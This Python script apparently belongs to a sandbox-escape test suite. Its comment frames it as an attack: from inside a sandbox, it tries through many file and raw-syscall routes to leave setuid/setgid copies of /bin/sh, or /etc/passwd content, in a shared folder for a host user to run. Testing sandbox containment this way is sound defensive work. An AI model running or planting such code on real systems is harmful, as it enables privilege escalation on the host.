# attack: leave a program with set-user-id in a granted folder, for a person of the host to start
# success: a file with that bit and content is on the host
import mmap
import os
import stat
from support.raw import attempt, bait, call, say

granted = bait("GRANTED")
code = open("/bin/sh", "rb").read()[:8192] if os.path.exists("/bin/sh") else b"\x7fELF" * 100


def path(name):
    return f"{granted}/setuid-{name}"


def written(name, fill):
    file = os.open(path(name), os.O_CREAT | os.O_RDWR, 0o6755)
    try:
        fill(file)
    except OSError as error:
        say(f"{name}: {error}")
    os.close(file)


def by_map(file):
    os.posix_fallocate(file, 0, 8192)
    with mmap.mmap(file, 8192) as area:
        area[:8192] = code[:8192].ljust(8192, b"\0")


os.umask(0)
written("write", lambda file: os.write(file, code))
written("map", by_map)
written("truncate", lambda file: os.ftruncate(file, 4096))
source = os.open("/etc/passwd", os.O_RDONLY)
written("sendfile", lambda file: os.sendfile(file, source, 0, 100))
written("copy", lambda file: os.copy_file_range(source, file, 100, 0))
say(call(133, path("mknod").encode(), stat.S_IFREG | 0o6755, 0))
for name in ("chmod", "fchmod", "fchmodat2", "openat2"):
    open(path(name), "wb").write(code)
say(call(90, path("chmod").encode(), 0o6755))
say(call(91, os.open(path("fchmod"), os.O_RDWR), 0o6755))
say(call(268, -100, path("fchmodat2").encode(), 0o6755))
say(call(452, -100, path("fchmodat2").encode(), 0o6755, 0))
for entry in os.listdir(granted):
    state = os.stat(f"{granted}/{entry}")
    if state.st_mode & 0o6000 and state.st_size:
        attempt(f"{entry} is {state.st_mode:o}", lambda: True)
